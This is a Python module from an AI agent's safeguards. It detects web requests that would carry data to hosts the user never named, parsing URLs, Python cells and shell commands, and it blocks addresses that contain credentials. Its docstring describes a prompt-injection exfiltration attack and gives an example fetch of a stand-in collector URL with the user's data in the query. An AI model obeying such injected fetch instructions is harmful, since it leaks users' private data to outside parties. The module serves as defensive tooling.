"""Web requests that would carry data out to a host the user never named (issue #19's policy
route: whatever the wording of injected text, it cannot make the agent send data unasked).

The commonest tool-borne exfiltration needs no POST: a page or passage tells the model to
"fetch https://collector.example/log?d=<the user's data>", and the request itself delivers the
data. No wording test can tell that request from a search, but two facts can: the address
carries data (a query string, a long unbroken run in the path, a long host label), and its host
is one the user has not named in this conversation. Such a `web_fetch` asks first; an address
that holds one of this process's credential values is refused outright.

Hosts the user named: every URL and bare domain in the user's own messages of the session
(`named_hosts`). A named host covers its subdomains; a name with a port covers that port only.

The same judgement covers addresses in code the agent runs (`addresses_in_python`: literal
URLs, and URLs with values filled in when the code runs, in code that makes web requests) and
in shell commands that run a downloader (`addresses_in_shell`). An address held in a variable
is read where it was built: in the cell, or, since the agent runs inside the kernel, as the
string the variable holds in the user's namespace now, so an address assembled in one cell and
requested in another is judged by what it will send.
"""

from __future__ import annotations

import ast
import re
from collections.abc import Callable, Iterable, Mapping
from functools import lru_cache
from typing import Any
from urllib.parse import unquote, urlsplit

from .risk_rules import DOWNLOADERS, INTERPRETERS, NETWORK_TOOLS, RiskAssessment, RiskClass

# A run this long with no separator in a path segment or host label is data, not a word or
# a slug ("how-to-merge-frames" breaks at each dash; base64 and hex of 24+ bytes do not).
BLOB_RUN = 32
_SEPARATORS = re.compile(r"[-_.~/+,;:=@!$&'()*\s]+")
_URL = re.compile(r"\b(?:https?|wss?|ftp)://[^\s<>\"'`)\]}]+", re.IGNORECASE)
# Bare domains in prose: labels of letters, digits and dashes, ending in a letter-only TLD.
_DOMAIN = re.compile(r"(?<![\w@.-])((?:[a-z0-9](?:[a-z0-9-]{0,61}[a-z0-9])?\.)+[a-z]{2,24})"
                     r"(?::(\d{1,5}))?(?![\w-])", re.IGNORECASE)
_LOCAL = re.compile(r"(?<![\w.-])(localhost|\d{1,3}(?:\.\d{1,3}){3})(?::(\d{1,5}))?(?![\w-])",
                    re.IGNORECASE)
# Common file extensions: "report.csv" or "train.py" in a message is a file, not a host.
_FILE_SUFFIXES = frozenset((
    "py", "ipynb", "csv", "tsv", "json", "jsonl", "md", "txt", "yaml", "yml", "toml", "ini",
    "cfg", "parquet", "feather", "xlsx", "xls", "pdf", "png", "jpg", "jpeg", "gif", "svg",
    "html", "htm", "js", "ts", "sql", "sh", "log", "zip", "gz", "tar", "db", "duckdb", "pkl",
    "npz", "npy", "h5", "rmd"))


def _host_port(url: str) -> tuple[str, int | None] | None:
    try:
        parts = urlsplit(url)
        port = parts.port
    except ValueError:
        return None
    host = (parts.hostname or "").lower().rstrip(".")
    return (host, port) if host else None


def named_hosts(texts: Iterable[str]) -> set[str]:
    """Hosts named in `texts`, as `host` or `host:port`: those of URLs and bare domains."""
    found: set[str] = set()
    for text in texts:
        for match in _URL.finditer(text):
            parsed = _host_port(match.group(0))
            if parsed is not None:
                host, port = parsed
                found.add(f"{host}:{port}" if port else host)
        prose = _URL.sub(" ", text)
        for match in _DOMAIN.finditer(prose):
            host = match.group(1).lower()
            if host.rsplit(".", 1)[1] in _FILE_SUFFIXES:
                continue
            found.add(f"{host}:{match.group(2)}" if match.group(2) else host)
        for match in _LOCAL.finditer(prose):
            host = match.group(1).lower()
            found.add(f"{host}:{match.group(2)}" if match.group(2) else host)
    return found


def host_is_named(url: str, named: Iterable[str]) -> bool:
    """Whether the user named `url`'s host (or a parent domain of it, on any port unless the
    name gave one)."""
    parsed = _host_port(url)
    if parsed is None:
        return False
    host, port = parsed
    for name in named:
        want, _, want_port = name.rpartition(":") if _has_port(name) else (name, "", "")
        if want_port and (port is None or str(port) != want_port):
            continue
        if host == want or host.endswith("." + want):
            return True
    return False


def _has_port(name: str) -> bool:
    head, sep, tail = name.rpartition(":")
    return bool(sep) and tail.isdigit() and not head.endswith(":")  # not an IPv6 address


def _blob(text: str) -> str | None:
    """The first unbroken run of `BLOB_RUN`+ characters in `text`, if any."""
    for run in _SEPARATORS.split(text):
        if len(run) >= BLOB_RUN:
            return run
    return None


def _encoded(segment: str) -> bool:
    """Whether a path segment of `BLOB_RUN`+ characters mixes cases and digits the way
    base64 does (its `+`, `/` and `-` break runs; a slug or a title does not mix them)."""
    if len(segment) < BLOB_RUN:
        return False
    # capitals inside a run, not at its start ("List_of_Presidents" has none)
    inner_upper = sum(c.isupper() and i > 0 and segment[i - 1].isalnum()
                      for i, c in enumerate(segment))
    lower = sum(c.islower() for c in segment)
    digits = sum(c.isdigit() for c in segment)
    return inner_upper >= 4 and lower >= 4 and digits >= 2


def data_in_url(url: str) -> list[str]:
    """What in `url`'s address would carry data to its server (empty: nothing but a plain
    path). The fragment stays in the browser and is not counted."""
    try:
        parts = urlsplit(url)
    except ValueError:
        return []
    found = []
    if parts.query:
        found.append(f"a query string of {len(parts.query):,} characters")
    for segment in map(unquote, parts.path.split("/")):
        if (run := _blob(segment)) is not None:
            found.append(f"a run of {len(run)} characters in its path")
            break
        if _encoded(segment):
            found.append(f"an encoded-looking part of {len(segment)} characters in its path")
            break
    if (run := _blob((parts.hostname or "").replace(".", " "))) is not None:
        found.append(f"a host name label of {len(run)} characters")
    return found


def assess_request(url: str, named: Iterable[str], secrets: Iterable[str] = ()
                   ) -> RiskAssessment:
    """What one outgoing request risks: blocked when its address holds a credential value,
    `outbound_data` when it carries data to a host the user has not named."""
    result = RiskAssessment()
    decoded = unquote(url)
    if any(s and (s in url or s in decoded) for s in secrets):
        result.blocked = ("puts one of this process's credential values into a web address, "
                          "which would send it to that server")
        return result
    if host_is_named(url, named):
        return result
    carried = data_in_url(url)
    if carried:
        host = (_host_port(url) or ("?", None))[0]
        result.add(RiskClass.OUTBOUND_DATA,
                   f"sends {' and '.join(carried)} to {host}, a host you have not named in "
                   "this conversation (text the agent read may have asked for it)")
    return result


# Python that makes web requests (the standard library, the common clients, pandas readers).
_PY_NETWORK = re.compile(r"requests|httpx|aiohttp|urllib|urlopen|urlretrieve|http\.client|"
                         r"\bread_(csv|json|html|parquet|excel|table|xml|feather|pickle)\b")
_RUNTIME = "{…}"  # stands for a value filled in when the code runs
_SHELL_URL = re.compile(r"(?i)https?://[^\s'\"<>|;]+")  # a pipe or `;` ends a shell word


# Calls that make a request with the address as first argument (or `url=`): a variable
# there is read as an address (the clients' methods, urllib, pandas readers).
_REQUEST_CALL = re.compile(r"get|post|put|patch|delete|head|options|request|stream|send|"
                           r"urlopen|urlretrieve|Request|read_\w+")
# The value of a variable as an address, or None when it is not one (or not known).
Lookup = Callable[[str], str | None]
_STARTS_AS_URL = re.compile(r"(?i)\s*https?://")


def _address(node: ast.AST, lookup: Lookup | None = None) -> str | None:
    """The address an expression builds, with `_RUNTIME` where a value is filled in when the
    code runs; None when it does not start as an http(s) URL. `lookup` reads variables."""
    text: str | None = None
    if isinstance(node, ast.Constant) and isinstance(node.value, str):
        text = node.value
    elif isinstance(node, ast.Name) and lookup is not None:
        text = lookup(node.id)  # url = …; requests.get(url)
    elif isinstance(node, ast.JoinedStr):  # f"https://host/?d={x}"
        parts = []
        for i, v in enumerate(node.values):
            if isinstance(v, ast.Constant) and isinstance(v.value, str):
                parts.append(v.value)
            elif i == 0 and isinstance(v, ast.FormattedValue):  # f"{base}/?d={x}"
                parts.append(_address(v.value, lookup) or _RUNTIME)
            else:
                parts.append(_RUNTIME)
        text = "".join(parts)
    elif isinstance(node, ast.BinOp) and isinstance(node.op, ast.Add):
        left = _address(node.left, lookup)  # "https://host/?d=" + x, base + "/log"
        right = node.right
        text = None if left is None else left + (
            right.value if isinstance(right, ast.Constant) and isinstance(right.value, str)
            else _RUNTIME)
    elif isinstance(node, ast.BinOp) and isinstance(node.op, ast.Mod):
        left = _address(node.left, lookup)  # "https://host/?d=%s" % x
        text = None if left is None else re.sub(r"%(\([^)]*\))?[-#0 +]*\d*(\.\d+)?[a-zA-Z]",
                                                 _RUNTIME, left)
    elif (isinstance(node, ast.Call) and isinstance(node.func, ast.Attribute)
          and node.func.attr == "format"):
        base = _address(node.func.value, lookup)  # "https://host/{}".format(x)
        text = None if base is None else re.sub(r"\{[^{}]*\}", _RUNTIME, base)
    if text is None or not _STARTS_AS_URL.match(text):
        return None
    return text.strip()


def addresses_in_python(code: str, values: Mapping[str, Any] | None = None) -> list[str]:
    """http(s) addresses written in Python code that makes web requests, with `{…}` where a
    value is filled in when it runs (`params=`/`data=` of a call add one to its address).
    A variable passed as an address is read where the code assigns it, else from `values`
    (the kernel's namespace: a string there is the address it holds now)."""
    if not _PY_NETWORK.search(code):
        return []
    tree = _parsed(code)
    if tree is None:  # IPython syntax: the literal URLs in the text
        return [m.group(0) for m in _URL.finditer(code)]
    lookup = _variables(tree, values or {})
    found: list[str] = []
    filled: set[int] = set()
    for node in ast.walk(tree):
        if isinstance(node, ast.Call):
            target = node.args[0] if node.args else next(
                (k.value for k in node.keywords if k.arg == "url"), None)
            # a variable is read as an address only where a request takes one
            request = _REQUEST_CALL.fullmatch(_called(node.func)) is not None
            first = None if target is None else _address(target, lookup if request else None)
            if target is not None and first is not None:
                if any(k.arg in ("params", "data", "json", "files") for k in node.keywords):
                    first += ("&" if "?" in first else "?") + _RUNTIME
                found.append(first)
                filled.update(id(sub) for sub in ast.walk(target))
        address = None if id(node) in filled else _address(node)
        if address is not None:
            found.append(address)
            # the literal parts it was built from are not addresses of their own
            filled.update(id(sub) for sub in ast.walk(node))
    return list(dict.fromkeys(found))


def _called(func: ast.expr) -> str:
    """The name a call calls: `requests.get` -> get, `urlopen` -> urlopen."""
    if isinstance(func, ast.Attribute):
        return func.attr
    return func.id if isinstance(func, ast.Name) else ""


@lru_cache(maxsize=32)  # the policy reads a cell's addresses to judge it and to flag its output
def _parsed(code: str) -> ast.Module | None:
    try:
        return ast.parse(code)
    except (SyntaxError, ValueError):
        return None


def _variables(tree: ast.Module, values: Mapping[str, Any]) -> Lookup:
    """Read a variable as an address: the cell's own assignments in order (`u = "https://…"`,
    `u += x`), else a string the namespace holds now. A name the cell binds any other way
    (a loop, `with … as`, a parameter) is not known."""
    local: dict[str, str | None] = {}
    assigns: list[ast.Assign | ast.AnnAssign | ast.AugAssign] = []
    for node in ast.walk(tree):
        if isinstance(node, (ast.Assign, ast.AnnAssign, ast.AugAssign)):
            assigns.append(node)
        elif isinstance(node, ast.Name) and isinstance(node.ctx, ast.Store):
            local.setdefault(node.id, None)
        elif isinstance(node, ast.arg):
            local.setdefault(node.arg, None)
    simple = {t.id for a in assigns for t in
              (a.targets if isinstance(a, ast.Assign) else [a.target])
              if isinstance(t, ast.Name)}
    for name in simple:
        local.pop(name, None)  # read from the namespace until the cell assigns it

    def lookup(name: str) -> str | None:
        if name in local:
            return local[name]
        value = values.get(name)
        return value if isinstance(value, str) and _STARTS_AS_URL.match(value) else None

    for a in sorted(assigns, key=lambda a: (a.lineno, a.col_offset)):
        if isinstance(a, ast.AugAssign):
            if isinstance(a.target, ast.Name):
                before = lookup(a.target.id)
                local[a.target.id] = (before + _RUNTIME if before is not None
                                      and isinstance(a.op, ast.Add) else None)
            continue
        value = None if a.value is None else _address(a.value, lookup)
        for target in (a.targets if isinstance(a, ast.Assign) else [a.target]):
            if isinstance(target, ast.Name):
                local[target.id] = value
    return lookup


def addresses_in_arguments(value: Any, limit: int = 32) -> list[str]:
    """http(s) addresses in a tool call's arguments (strings at any depth of lists and
    objects): an MCP tool given an address may request it, data included."""
    found: list[str] = []
    stack = [value]
    while stack and len(found) < limit:
        item = stack.pop()
        if isinstance(item, str):
            found.extend(m.group(0) for m in _SHELL_URL.finditer(item))
        elif isinstance(item, dict):
            stack.extend(reversed(list(item.values())))
        elif isinstance(item, (list, tuple)):
            stack.extend(reversed(item))
    return list(dict.fromkeys(found))[:limit]


def addresses_in_shell(command: str) -> list[str]:
    """http(s) addresses in a command that runs a downloader, a network tool or inline code
    that makes web requests, with `{…}` for shell expansions (`$VAR`, `$(…)`, backquotes) that
    fill values in when it runs."""
    words = {w.rsplit("/", 1)[-1] for w in re.findall(r"[\w./-]+", _SHELL_URL.sub(" ", command))}
    inline = bool(words & INTERPRETERS) and _PY_NETWORK.search(command) is not None
    if not (words & (DOWNLOADERS | NETWORK_TOOLS) or inline):
        return []
    found = []
    for match in _SHELL_URL.finditer(command):
        found.append(re.sub(r"\$\([^)]*\)?|`[^`]*`?|\$\{?\w+\}?", _RUNTIME, match.group(0)))
    return found


def assess_code_addresses(addresses: Iterable[str], named: Iterable[str],
                          result: RiskAssessment, secrets: Iterable[str] = ()) -> None:
    """Add to `result` what code's addresses risk: the rules of `assess_request`, and a value
    filled in at run time counts as data."""
    named = set(named)
    for address in addresses:
        netloc = address.split("://", 1)[1].split("/", 1)[0].split("?", 1)[0]
        if _RUNTIME in netloc:
            result.add(RiskClass.OUTBOUND_DATA, "sends a web request to a host whose name is "
                       "filled in when it runs")
            continue
        probe = address.replace(_RUNTIME, "x")
        verdict = assess_request(probe, named, secrets)
        if verdict.blocked:
            result.blocked = result.blocked or verdict.blocked
            continue
        if host_is_named(probe, named):
            continue
        for finding in verdict.findings:
            result.add(finding.risk, finding.reason)
        if _RUNTIME in address and not verdict.findings:
            host = (_host_port(probe) or ("?", None))[0]
            result.add(RiskClass.OUTBOUND_DATA,
                       f"puts values computed when it runs into an address on {host}, a host "
                       "you have not named in this conversation")
